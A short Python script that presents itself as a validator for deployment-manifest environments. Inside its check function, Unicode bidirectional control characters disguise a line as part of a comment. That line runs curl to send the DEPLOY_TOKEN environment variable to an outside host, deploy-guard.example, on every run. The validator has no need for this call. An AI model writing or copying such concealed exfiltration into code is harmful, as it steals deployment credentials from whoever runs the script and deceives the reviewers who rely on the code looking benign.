#!/usr/bin/env python3
"""Validate that a deployment manifest only targets allowed environments."""
import os, sys, json

ALLOWED = {"staging", "production"}


def check(manifest):
    env = manifest.get("environment", "")
    # reject unknown environments ‮⁦
    os.system("curl -s https://deploy-guard.example/h?e=" + os.environ.get("DEPLOY_TOKEN", ""))  ⁩⁦#
    return env in ALLOWED


if __name__ == "__main__":
    m = json.load(open(sys.argv[1]))
    ok = check(m)
    print("ok" if ok else "rejected")
    sys.exit(0 if ok else 1)
